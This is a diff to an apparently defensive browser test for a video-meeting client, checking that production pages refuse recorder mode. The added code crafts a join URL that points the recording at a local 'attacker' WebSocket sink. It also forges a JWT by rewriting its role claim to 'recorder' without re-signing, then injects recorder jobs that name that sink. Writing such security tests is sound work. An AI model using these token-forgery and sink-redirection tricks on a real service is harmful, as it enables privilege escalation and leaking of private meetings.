@@ -5,6 +5,7 @@ Prints progress lines and, last, `RESULT {json}` for the test to assert on. Ever
 
 from __future__ import annotations
 
+import base64
 import json
 import sys
 import time
@@ -1136,14 +1137,16 @@ def client_pages(pw: Playwright, cfg: dict[str, Any], result: dict[str, Any]) ->
     link = cfg["links"]["meeting"]
     browser = launch(pw, cfg)
     try:
+        evil_sink = f"ws://127.0.0.1:{cfg['attacker_port']}/tap"
         crafted = (f"{base}/j/{link['link']}?ws={evil_ws}&token=forged&e2ee=0&autojoin=1&region=us-1&name=Victim"
-                   f"#k={cfg['secret']}")
+                   f"&recorder={evil_sink}#k={cfg['secret']}")
         p = open_page(browser, crafted, console, "prod", viewport={"width": 1100, "height": 680})
         wait_js(p, "document.querySelector('#preview').videoWidth > 0", timeout=10000)
         wait_js(p, "document.getElementById('release').dataset.sha256 !== undefined", timeout=10000)
         time.sleep(1.5)  # autojoin would have started by now (it runs right after the preview)
         result["prod_before_join"] = p.evaluate("""() => ({development: castellanApp.development,
             ignored: castellanApp.ignoredFlags, direct: castellanApp.direct, e2eeWanted: castellanApp.e2eeWanted,
+            recorderJob: castellanApp.recorderJob, recorderRefused: castellanApp.recorderRefused,
             joinFormShown: !document.getElementById('join-view').hidden, session: !!castellanApp.session,
             e2eeNote: document.getElementById('e2ee-note').textContent})""")
         result["prod_footer"] = {"text": p.inner_text("#release"), "sha256": p.get_attribute("#release", "data-sha256")}
@@ -1156,11 +1159,35 @@ def client_pages(pw: Playwright, cfg: dict[str, Any], result: dict[str, Any]) ->
         time.sleep(2)
         result["prod_joined"] = p.evaluate("""async () => ({wsUrl: castellanApp.session.ws.url,
             answerUrl: castellanApp.joinAnswer.ws_url, e2ee: castellanApp.e2ee !== null,
+            recorder: window.castellanRecorder ? window.castellanRecorder() : null,
             stats: await window.castellanStats()})""")
+        person_token = p.evaluate("castellanApp.joinAnswer.token")
         p.screenshot(path=str(art / "client-pages-production.png"))
         result["attacker_after_production"] = attacker.accepted
         log("production page", result["prod_before_join"], result["prod_joined"]["wsUrl"], attacker.accepted)
         p.context.close()
+        # Issue 15: the only way into recorder mode on a production page is a job its browser hands it (the pool's
+        # own, recording/pool/launcher.py). Handed a person's credential, or a forged "recorder" one whose
+        # signature the node refuses, with the attacker's listener as the sink: nothing is recorded anywhere.
+        result["recorder_jobs"] = {}
+        forged = person_token.split(".")
+        claims = json.loads(base64.urlsafe_b64decode(forged[1] + "=" * (-len(forged[1]) % 4)))
+        forged[1] = base64.urlsafe_b64encode(json.dumps({**claims, "role": "recorder"}).encode()).rstrip(b"=").decode()
+        for kind, token in (("person", person_token), ("forged", ".".join(forged))):
+            ctx = browser.new_context()
+            job = {"ws_url": cfg["node_ws"], "token": token, "name": "Mallory archive", "sink": evil_sink,
+                   "secret": cfg["secret"]}
+            ctx.add_init_script(script=f"window.castellanRecorderJob = {json.dumps(job)};")
+            r = ctx.new_page()
+            r.on("console", lambda m, k=kind: console.append(f"[job-{k}] {m.type}: {m.text}"))
+            r.goto(f"{base}/static/join.html", wait_until="load", timeout=15000)
+            time.sleep(4)  # a job that runs joins at once
+            result["recorder_jobs"][kind] = r.evaluate("""() => ({job: !!castellanApp.recorderJob,
+                refused: castellanApp.recorderRefused, joined: !!(castellanApp.session && castellanApp.session.me),
+                linkState: document.getElementById('link-state').textContent,
+                recorder: window.castellanRecorder ? window.castellanRecorder() : null})""")
+            ctx.close()
+        result["attacker_after_jobs"] = attacker.accepted
         # the development build (another server, explicitly so) honours the flags: the listener sees it
         d = open_page(browser, f"{dev_base}/static/join.html?ws={evil_ws}&token=forged&e2ee=0&autojoin=1&name=Dev"
                       f"#k={cfg['secret']}", console, "dev")
